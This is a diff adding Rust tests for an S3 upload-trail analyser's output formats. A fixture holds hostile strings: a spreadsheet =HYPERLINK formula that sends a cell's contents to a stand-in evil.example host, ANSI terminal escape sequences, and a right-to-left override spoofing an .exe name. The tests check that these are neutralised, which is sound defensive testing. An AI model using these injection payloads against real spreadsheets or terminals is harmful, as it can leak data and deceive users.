@@ -1,0 +1,233 @@
+//! Every format carries the failures, the incomplete uploads and the notes; hostile strings
+//! cannot reach the terminal or a spreadsheet as anything but text.
+
+use serde_json::{Value, json};
+
+use crate::synth::layout;
+use crate::synth::records::{self, NO_SUCH_UPLOAD, Place, Who};
+use crate::synth::rng::Rng;
+use crate::synth::scenarios::{ACCOUNT, at};
+use crate::util::{TestEnv, analyze_json, run, trail_args};
+
+fn analyze(format: &str, extra: &[String]) -> String {
+    let mut args = vec!["analyze".to_owned()];
+    args.extend(extra.iter().cloned());
+    args.extend(["--format".into(), format.into()]);
+    let run = run(&args);
+    assert_eq!(run.status, Some(0), "{}", run.stderr);
+    run.stdout
+}
+
+#[test]
+fn ndjson_has_each_failure_orphan_and_note_then_a_summary() {
+    let report = analyze_json(&trail_args());
+    let out = analyze("ndjson", &trail_args());
+    let lines: Vec<Value> = out
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("a JSON line"))
+        .collect();
+    let count = |kind: &str| lines.iter().filter(|l| l["type"] == kind).count();
+    assert_eq!(
+        count("failure"),
+        report["failures"].as_array().map_or(0, Vec::len)
+    );
+    assert_eq!(
+        count("orphan"),
+        report["orphans"].as_array().map_or(0, Vec::len)
+    );
+    assert_eq!(
+        count("note"),
+        report["notes"].as_array().map_or(0, Vec::len)
+    );
+    let last = lines.last().expect("a summary line");
+    assert_eq!(last["type"], "summary");
+    assert_eq!(last["summary"], report["summary"]);
+    assert_eq!(last["buckets_without_data_events"], json!(["audit-logs"]));
+    assert_eq!(lines[0]["cause"], report["failures"][0]["cause"]);
+}
+
+#[test]
+fn csv_has_a_row_per_failure_orphan_and_note() {
+    let report = analyze_json(&trail_args());
+    let out = analyze("csv", &trail_args());
+    let rows: Vec<&str> = out.split("\r\n").filter(|r| !r.is_empty()).collect();
+    assert!(
+        rows[0].starts_with("record,time,operation,bucket,key,upload_id"),
+        "{}",
+        rows[0]
+    );
+    let count = |kind: &str| {
+        rows.iter()
+            .filter(|r| r.starts_with(&format!("{kind},")))
+            .count()
+    };
+    assert_eq!(
+        count("failure"),
+        report["failures"].as_array().map_or(0, Vec::len)
+    );
+    assert_eq!(count("orphan"), 4);
+    assert_eq!(count("note"), 2);
+    assert!(out.contains("note,,,audit-logs,"), "{out}");
+}
+
+#[test]
+fn the_table_names_causes_orphans_and_quiet_buckets() {
+    let out = analyze("table", &trail_args());
+    for needle in [
+        "uploadtrail: 22 NoSuchUpload failures, 4 incomplete uploads",
+        "  lifecycle           4   a lifecycle rule made the upload eligible for abort first",
+        "Incomplete uploads (7 parts, 564.0 MiB in all",
+        "rule \"weekly-7d\": eligible from 2026-11-18 00:00:00 UTC",
+        "No S3 data events for bucket \"audit-logs\" in the window",
+    ] {
+        assert!(out.contains(needle), "missing {needle:?} in\n{out}");
+    }
+}
+
+/// A small trail whose key, user agent and session name are hostile.
+fn hostile_trail(env: &TestEnv) -> (String, String, String) {
+    let mut rng = Rng::new(3);
+    let place = Place {
+        account: ACCOUNT.into(),
+        region: "us-east-1".into(),
+    };
+    let key = "=HYPERLINK(\"http://evil.example/?\"&A1)\u{1b}]0;owned\u{7}\u{202e}gpj.exe";
+    let agent = "\u{1b}[2J\u{1b}[31mcleanup\u{200b}";
+    let uploader = Who::role(ACCOUNT, "up", "s\u{1b}[1mession", "10.0.0.1", agent);
+    let cleanup = Who::role(ACCOUNT, "cleanup", "c", "10.0.0.2", agent);
+    let (id, other) = (rng.upload_id(), rng.upload_id());
+    let recs = vec![
+        records::create(
+            &mut rng,
+            at(3, 9, 0, 0),
+            &place,
+            &uploader,
+            "b",
+            key,
+            Some(&id),
+            None,
+        ),
+        records::call(
+            &mut rng,
+            at(3, 9, 5, 0),
+            &place,
+            &cleanup,
+            "AbortMultipartUpload",
+            "b",
+            key,
+            &id,
+            None,
+            0,
+            None,
+        ),
+        records::call(
+            &mut rng,
+            at(3, 9, 6, 0),
+            &place,
+            &uploader,
+            "UploadPart",
+            "b",
+            key,
+            &id,
+            Some(2),
+            0,
+            Some(NO_SUCH_UPLOAD),
+        ),
+        records::create(
+            &mut rng,
+            at(3, 9, 7, 0),
+            &place,
+            &uploader,
+            "b",
+            "-orphan\u{1b}[8m",
+            Some(&other),
+            None,
+        ),
+    ];
+    let refs: Vec<_> = recs.iter().collect();
+    env.write(
+        "hostile.json.gz",
+        layout::gzip(&layout::records_document(&refs)),
+    );
+    (
+        env.path().display().to_string(),
+        key.to_owned(),
+        agent.to_owned(),
+    )
+}
+
+fn assert_inert(out: &str, format: &str) {
+    for c in out.chars() {
+        let allowed = matches!(c, '\n' | '\r');
+        assert!(
+            allowed || !uploadtrail::report::escape::is_unsafe(c),
+            "{format} output carries {c:?}:\n{out}"
+        );
+    }
+}
+
+#[test]
+fn hostile_strings_are_inert_in_the_table() {
+    let env = TestEnv::new();
+    let (dir, ..) = hostile_trail(&env);
+    let out = analyze("table", &[dir]);
+    assert_inert(&out, "table");
+    assert!(out.contains("\\u{1b}]0;owned"), "{out}");
+    assert!(out.contains("\\u{202e}gpj.exe"), "{out}");
+}
+
+#[test]
+fn hostile_strings_cannot_become_spreadsheet_formulas() {
+    let env = TestEnv::new();
+    let (dir, ..) = hostile_trail(&env);
+    let out = analyze("csv", &[dir]);
+    let failure = out
+        .split("\r\n")
+        .find(|r| r.starts_with("failure,"))
+        .expect("a failure row");
+    assert!(
+        failure.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)"),
+        "{failure}"
+    );
+    let orphan = out
+        .split("\r\n")
+        .find(|r| r.starts_with("orphan,"))
+        .expect("an orphan row");
+    assert!(orphan.contains(",'-orphan"), "{orphan}");
+}
+
+#[test]
+fn json_keeps_hostile_strings_raw() {
+    let env = TestEnv::new();
+    let (dir, key, agent) = hostile_trail(&env);
+    let report = analyze_json(&[dir]);
+    let f = &report["failures"][0];
+    assert_eq!(f["key"], key.as_str());
+    assert_eq!(f["actor"]["user_agent"], agent.as_str());
+    assert_eq!(f["cause"], "aborted");
+}
+
+#[test]
+fn output_goes_to_a_file() {
+    let env = TestEnv::new();
+    let target = env.path().join("answer.json");
+    let mut args = vec!["analyze".to_owned()];
+    args.extend(trail_args());
+    args.extend([
+        "--format".into(),
+        "json".into(),
+        "--output".into(),
+        target.display().to_string(),
+    ]);
+    let run = run(&args);
+    assert_eq!(
+        (run.status, run.stdout.as_str()),
+        (Some(0), ""),
+        "{}",
+        run.stderr
+    );
+    let report: Value =
+        serde_json::from_slice(&std::fs::read(&target).expect("the file")).expect("JSON");
+    assert_eq!(report["schema_version"], 1);
+    assert_eq!(report["summary"]["failures"], 22);
+}
